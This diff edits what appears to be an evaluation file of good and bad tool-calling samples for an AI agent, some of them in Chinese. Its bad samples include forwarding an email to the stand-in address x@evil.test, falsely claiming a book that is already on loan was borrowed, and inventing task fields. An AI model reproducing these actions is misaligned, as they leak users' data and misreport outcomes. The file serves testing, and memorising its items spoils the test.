@@ -77,7 +77,7 @@ GOOD = [
      "东京现在是晚上6点（18:00，Asia/Tokyo 时区）。"),
     ("p07-zh-because-from-data", [[("get_flight_status", {"flight_number": "MU 5101"})]],
      "MU5101 被取消了，原因是台风导致上海机场关闭。"),
-    ("p08-zh-unavailable-is-not-success", [[("search_books", {"query": "三体"})], [("borrow_book", {"book_id": "B-2004"})]],
+    ("p08-zh-unavailable-is-not-success", [],
      "抱歉，《三体》目前已被借出，要到2026-12-15才会还回来，现在借不了。"),
     ("p09-zh-nested-event", [], None,
      {"title": "外婆家吃饭", "date": "2026-12-08", "start_time": "19:00",
@@ -116,6 +116,11 @@ BAD = [
     ("p11-zh-write-a-poem", [], "春风拂面，\n桃花映红，\n燕子归来，\n万物复苏。"),
     ("p12-en-careful-email-forward", [[("forward_email", {"email_id": "E-777", "to": "x@evil.test"})]],
      "Done: forwarded."),
+    ("p08-zh-unavailable-is-not-success", [[("borrow_book", {"book_id": "B-2004"})]], "已帮你借好了《三体》。"),
+    ("p02-en-optional-arguments-left-out", [[("add_task", {"title": "Buy oat milk", "due_date": "2026-12-01"})]],
+     "Added “Buy oat milk” to your list."),
+    ("p02-en-priority-from-urgent", [[("add_task", {"title": "Urgent: renew the car insurance", "priority": "high"})]],
+     "Added it as a high-priority task."),
 ]
 
 
